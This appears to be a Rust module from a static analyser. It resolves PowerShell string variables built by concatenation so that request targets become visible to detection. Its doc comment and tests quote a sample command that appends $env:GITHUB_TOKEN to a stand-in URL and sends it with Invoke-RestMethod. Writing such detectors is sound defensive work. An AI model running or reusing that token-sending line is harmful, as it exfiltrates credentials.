//! String values built by expression and used later by name: `$u =
//! 'https://h/collect?k=' + $env:GITHUB_TOKEN` then `Invoke-RestMethod
//! -Uri $u`. The shell walk keeps a variable whose value holds an unknown
//! expansion as its name, so the request would lose its host; the
//! statement pass ([`super::statements`]) writes each plain use of such a
//! variable out as the one double-quoted string its value is (`"https://
//! h/collect?k=$env:GITHUB_TOKEN"`), with the last assignment of the
//! variable before the use. Only values made of quoted strings,
//! environment variables and variables joined by `+` are written out, and
//! only when they name a variable (a literal value the walk keeps itself).

use super::statements::{assignment, statements};
use super::word_at;

/// `code` with the uses of its string-expression variables written out,
/// or `None` when it has none.
pub(super) fn rewrite(code: &str) -> Option<String> {
    if !code.contains('$') {
        return None;
    }
    // (end of the assignment, lower-case name, the value as one
    // double-quoted string's inner text, or None for any other value).
    let mut assigned: Vec<(usize, String, Option<String>)> = Vec::new();
    for (start, end) in statements(code) {
        let text = code.get(start..end).unwrap_or_default();
        if let Some((target, value)) = assignment(text)
            && let Some(name) = plain_name(target)
        {
            assigned.push((end, name.to_ascii_lowercase(), joined(value)));
        } else if let Some(name) = compound_target(text) {
            // `$u += 'x'`, `$u++`: no longer the value written before.
            assigned.push((end, name, None));
        }
    }
    if !assigned.iter().any(|(_, _, v)| v.is_some()) {
        return None;
    }
    let chars: Vec<char> = code.chars().collect();
    let mut out = String::with_capacity(code.len() + 64);
    let mut quote: Option<char> = None;
    let mut changed = false;
    let mut at = 0usize;
    let mut offset = 0usize;
    while let Some(&c) = chars.get(at) {
        match (quote, c) {
            (Some('"'), '`') | (None, '`') => {
                out.push(c);
                if let Some(&n) = chars.get(at + 1) {
                    out.push(n);
                    offset += n.len_utf8();
                }
                offset += 1;
                at += 2;
                continue;
            }
            (Some(q), c) if c == q => quote = None,
            (Some('\''), _) => {}
            (None, '\'' | '"') => quote = Some(c),
            (_, '$') => {
                let name = word_at(&chars, at + 1);
                let end = at + 1 + name.chars().count();
                let plain = !name.is_empty()
                    && chars
                        .get(end)
                        .is_none_or(|n| !matches!(n, '.' | '[' | ':' | '=' | '+' | '-'));
                // `$u = ...`, `$u += ...`: the variable assigned, not used.
                let mut next = end;
                while chars.get(next).is_some_and(|c| *c == ' ' || *c == '\t') {
                    next += 1;
                }
                let target = match (chars.get(next), chars.get(next + 1)) {
                    (Some('='), Some('=')) => false,
                    (Some('='), _) => true,
                    (Some('+' | '-' | '*' | '/' | '%' | '?'), Some('=' | '+' | '-' | '?')) => true,
                    _ => false,
                };
                let plain = plain && !target;
                let lower = name.to_ascii_lowercase();
                let value = assigned
                    .iter()
                    .rev()
                    .find(|(e, n, _)| *e <= offset && *n == lower)
                    .and_then(|(_, _, v)| v.clone());
                if plain && let Some(value) = value {
                    if quote == Some('"') {
                        out.push_str(&value);
                    } else {
                        out.push('"');
                        out.push_str(&value);
                        out.push('"');
                    }
                    changed = true;
                    offset += 1 + name.len();
                    at = end;
                    continue;
                }
            }
            _ => {}
        }
        out.push(c);
        offset += c.len_utf8();
        at += 1;
    }
    changed.then_some(out)
}

/// `$name` (no scope, property or index): the name.
fn plain_name(target: &str) -> Option<&str> {
    let name = target.strip_prefix('$')?;
    (!name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
        .then_some(name)
}

/// The lower-case name a statement changes in place (`$u += 'x'`, `$n++`).
fn compound_target(statement: &str) -> Option<String> {
    let rest = statement.strip_prefix('$')?;
    let end = rest
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or(rest.len());
    let (name, after) = rest.split_at(end);
    let after = after.trim_start();
    let changes = ["+=", "-=", "*=", "/=", "%=", "++", "--", "??="]
        .iter()
        .any(|op| after.starts_with(op));
    (!name.is_empty() && changes).then(|| name.to_ascii_lowercase())
}

/// A value of quoted strings, `$env:NAME` and variables joined by `+`, as
/// the inner text of the one double-quoted string it equals; `None` for
/// any other value, or one that names no variable.
fn joined(value: &str) -> Option<String> {
    let chars: Vec<char> = value.trim().chars().collect();
    let mut out = String::new();
    let mut names_variable = false;
    let mut at = 0usize;
    let mut operand = true;
    while let Some(&c) = chars.get(at) {
        if c.is_whitespace() {
            at += 1;
            continue;
        }
        if !operand {
            if c != '+' {
                return None;
            }
            operand = true;
            at += 1;
            continue;
        }
        match c {
            '\'' => {
                at += 1;
                loop {
                    match chars.get(at) {
                        Some('\'') if chars.get(at + 1) == Some(&'\'') => {
                            out.push('\'');
                            at += 2;
                        }
                        Some('\'') => break,
                        Some(&x) => {
                            if matches!(x, '$' | '`' | '"') {
                                out.push('`');
                            }
                            out.push(x);
                            at += 1;
                        }
                        None => return None,
                    }
                }
                at += 1;
            }
            '"' => {
                at += 1;
                loop {
                    match chars.get(at) {
                        Some('`') => {
                            out.push('`');
                            out.extend(chars.get(at + 1));
                            at += 2;
                        }
                        Some('"') => break,
                        // A subexpression runs code: not a plain string.
                        Some('$') if chars.get(at + 1) == Some(&'(') => return None,
                        Some(&x) => {
                            names_variable |= x == '$';
                            out.push(x);
                            at += 1;
                        }
                        None => return None,
                    }
                }
                at += 1;
            }
            '$' => {
                let word: String = chars
                    .get(at + 1..)
                    .unwrap_or_default()
                    .iter()
                    .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | ':'))
                    .collect();
                let bare = word.trim_start_matches(|c: char| c != ':');
                if word.is_empty() || (word.contains(':') && bare.len() < 2) {
                    return None;
                }
                names_variable = true;
                // Braced, so text after it is not read as part of its name.
                out.push_str(&format!("${{{word}}}"));
                at += 1 + word.chars().count();
            }
            _ => return None,
        }
        operand = false;
    }
    (names_variable && !operand).then_some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn joined_values_and_uses() {
        assert_eq!(
            joined("'https://h/?k=' + $env:T").as_deref(),
            Some("https://h/?k=${env:T}")
        );
        assert_eq!(joined("'a' + 'b'"), None);
        assert_eq!(joined("(Get-Date) + 'x'"), None);
        assert_eq!(joined("'a' +"), None);
        assert_eq!(
            rewrite("$u = 'https://h/?k=' + $env:T; irm -Uri $u").as_deref(),
            Some("$u = 'https://h/?k=' + $env:T; irm -Uri \"https://h/?k=${env:T}\"")
        );
        assert_eq!(rewrite("$u = 'a' + $x; $u += 'b'; irm $u"), None);
    }
}
